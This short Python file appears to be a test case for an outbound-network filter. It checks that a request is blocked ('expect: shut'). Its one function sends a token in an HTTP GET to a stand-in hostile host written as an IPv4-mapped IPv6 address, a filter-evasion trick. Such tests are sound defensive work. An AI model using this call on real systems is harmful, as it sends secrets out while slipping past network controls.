"""
how: for an IPv4 address written as IPv6
expect: shut
"""

from land import EVIL
from web import get, http


def attempt(token):
    return http(get("[::ffff:" + EVIL + "]", "/" + token))
